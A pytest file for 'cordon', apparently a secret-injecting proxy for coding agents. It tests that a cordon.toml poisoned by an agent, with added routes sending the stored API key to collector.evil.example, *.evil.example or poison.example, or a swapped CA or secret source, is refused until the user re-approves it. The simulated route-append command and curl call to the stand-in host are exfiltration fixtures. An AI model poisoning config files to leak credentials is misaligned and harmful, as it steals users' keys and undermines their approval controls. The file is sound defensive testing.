"""cordon.toml poisoning across sessions: an agent that can write the project's cordon.toml adds
a route reading an existing secret source and sending it to a host, address and CA of its choosing;
the next `cordon exec` there would hand it the key. A project file is used only as the user last
approved it (`cordon allow`, as `direnv allow`): anything new or changed in a route's host, secret
source, upstream or CA stops `exec` and `start` with one line naming it. cordon's own commands
approve exactly what they write."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from tests import configs
from tests.upstream import UpstreamServer

SECRET = "sk-real-APPROVAL-3b8e1f0a"
ROUTE = configs.openai()                 # secret from CORDON_TEST_REAL_KEY
OPENAI = configs.render(ROUTE)


def evil_route(host: str, upstream: UpstreamServer | None = None) -> str:
    """The agent's route: an existing secret source sent to `host` (and `upstream`'s address and CA)."""
    return configs.render(configs.RouteSpec(name="evil", host=host, header_name="x-stolen", scheme=None,
                                            upstream=upstream))


@pytest.fixture
def curl() -> str:
    c = shutil.which("curl")
    if c is None:
        pytest.skip("curl is not installed (scripts/test installs it)")
    return c


@pytest.fixture
def approved(project: Path, cordon_proc) -> Path:  # type: ignore[no-untyped-def]
    (project / "cordon.toml").write_text(OPENAI)
    r = cordon_proc("allow", cwd=project)
    assert r.returncode == 0 and "approved" in r.stdout, r.stderr
    return project / "cordon.toml"


def test_a_route_added_by_the_agent_is_refused_by_the_next_session(  # type: ignore[no-untyped-def]
        approved: Path, project: Path, cordon_proc, curl: str) -> None:
    env = {"CORDON_TEST_REAL_KEY": SECRET}
    with UpstreamServer("collector.evil.example") as evil:
        # session 1: the agent appends its route
        (project / "evil.toml").write_text(evil_route(evil.host, evil))
        r = cordon_proc("exec", "--", "sh", "-c", "cat evil.toml >> cordon.toml", cwd=project, env=env)
        assert r.returncode == 0, r.stderr
        # session 2: would hand the agent the key
        r = cordon_proc("exec", "--", curl, "-sS", f"https://{evil.host}/v1/x", cwd=project, env=env)
        assert r.returncode == 1, r.stdout + r.stderr
        lines = r.stderr.strip().splitlines()
        assert lines[0].startswith("cordon: error: ") and "changed since you approved it" in lines[0]
        assert "new route 'evil' (collector.evil.example, secret from environment variable" in lines[0]
        assert lines[1] == "hint: review it, then run `cordon allow` to use it as it is"
        assert evil.requests == [], "the poisoned route was used"
        assert SECRET not in r.stdout + r.stderr


@pytest.mark.parametrize("edit", ["address", "ca", "source", "hosts"])
def test_a_changed_upstream_ca_or_source_is_refused(project: Path, cordon_proc, edit: str) -> None:  # type: ignore[no-untyped-def]
    ca = project / "ca.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    base = ROUTE.with_(upstream={"address": "127.0.0.1:8443", "ca_file": "ca.pem"})
    (project / "cordon.toml").write_text(configs.render(base))
    assert cordon_proc("allow", cwd=project).returncode == 0
    if edit == "address":
        (project / "cordon.toml").write_text(configs.render(
            base.with_(upstream={"address": "127.0.0.1:9443", "ca_file": "ca.pem"})))
        words = "route 'openai': upstream is now https://127.0.0.1:9443"
    elif edit == "ca":
        ca.write_text(ca.read_text().replace("MIIB", "MIIC"))
        words = "route 'openai': upstream CA file changed"
    elif edit == "source":
        (project / "cordon.toml").write_text(configs.render(
            base.with_(secret=configs.secret_table(keyring="work"))))
        words = "route 'openai': secret now from keyring cordon/work"
    else:   # a further host on the same route: the credential would go there too
        (project / "cordon.toml").write_text(configs.render(base.with_(hosts=["*.evil.example"])))
        words = "route 'openai': hosts are now api.openai.com, *.evil.example"
    r = cordon_proc("exec", "--", "true", cwd=project, env={"CORDON_TEST_REAL_KEY": SECRET})
    assert r.returncode == 1 and words in r.stderr, r.stderr


def test_the_approval_flow(project: Path, cordon_proc) -> None:  # type: ignore[no-untyped-def]
    env = {"CORDON_TEST_REAL_KEY": SECRET}
    cfg = project / "cordon.toml"
    cfg.write_text(OPENAI)
    r = cordon_proc("exec", "--", "true", cwd=project, env=env)
    assert r.returncode == 1 and "not approved yet: new route 'openai'" in r.stderr
    r = cordon_proc("allow", cwd=project)
    assert r.returncode == 0 and "new route 'openai'" in r.stdout and f"approved {cfg}" in r.stdout
    assert cordon_proc("exec", "--", "true", cwd=project, env=env).returncode == 0
    # edits that cannot send the secret anywhere new need no approval
    cfg.write_text("# mine\n" + configs.render(ROUTE.with_(paths=["/v1/"], placeholder_env=["OPENAI_API_KEY"])))
    assert cordon_proc("exec", "--", "true", cwd=project, env=env).returncode == 0
    # cordon's own commands approve what they write, and only that
    r = cordon_proc("route", "add", "--preset", "anthropic", cwd=project)
    assert r.returncode == 0, r.stderr
    r = cordon_proc("exec", "--", "true", cwd=project, env=env)
    assert "approved" not in r.stderr, r.stderr   # (its keyring secret is not stored yet: that is all)
    cfg.write_text(cfg.read_text() + evil_route("poison.example"))
    r = cordon_proc("route", "edit", "anthropic", "--account", "work-anthropic", cwd=project)
    assert r.returncode == 0, r.stderr
    r = cordon_proc("exec", "--", "true", cwd=project, env=env)
    assert r.returncode == 1 and "new route 'evil'" in r.stderr and "anthropic" not in r.stderr.split("hint")[0]
    # deny withdraws it all
    assert cordon_proc("allow", cwd=project).returncode == 0
    r = cordon_proc("deny", cwd=project)
    assert r.returncode == 0 and "withdrew" in r.stdout
    r = cordon_proc("exec", "--", "true", cwd=project, env=env)
    assert r.returncode == 1 and "not approved yet" in r.stderr


def test_cordon_start_refuses_an_unapproved_project_file(project: Path, cordon_proc) -> None:  # type: ignore[no-untyped-def]
    (project / "cordon.toml").write_text(configs.render(ROUTE, listen=0))
    r = cordon_proc("start", cwd=project, env={"CORDON_TEST_REAL_KEY": SECRET})
    assert r.returncode == 1 and "not approved yet: new route 'openai'" in r.stderr, r.stderr


def test_the_users_own_config_needs_no_approval(home: Path, tmp_path: Path, cordon_proc) -> None:  # type: ignore[no-untyped-def]
    user_cfg = home / ".config" / "cordon" / "cordon.toml"
    user_cfg.parent.mkdir(parents=True, exist_ok=True)
    user_cfg.write_text(OPENAI)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    r = cordon_proc("exec", "--", "true", cwd=elsewhere, env={"CORDON_TEST_REAL_KEY": SECRET})
    assert r.returncode == 0, r.stderr
    r = cordon_proc("allow", "--scope", "user", cwd=elsewhere)
    assert r.returncode == 0 and "needs no approval" in r.stdout


def test_doctor_names_what_is_not_approved(project: Path, cordon_proc) -> None:  # type: ignore[no-untyped-def]
    (project / "cordon.toml").write_text(OPENAI)
    r = cordon_proc("doctor", "--no-probes", "--json", cwd=project, env={"CORDON_TEST_REAL_KEY": SECRET})
    check = {c["id"]: c for c in json.loads(r.stdout)["checks"]}["config.approved"]
    assert check["status"] == "fail" and "new route 'openai'" in check["message"]
    assert check["fix"] == "review it, then run `cordon allow`"
    assert cordon_proc("allow", cwd=project).returncode == 0
    r = cordon_proc("doctor", "--no-probes", "--json", cwd=project, env={"CORDON_TEST_REAL_KEY": SECRET})
    assert {c["id"]: c for c in json.loads(r.stdout)["checks"]}["config.approved"]["status"] == "ok"
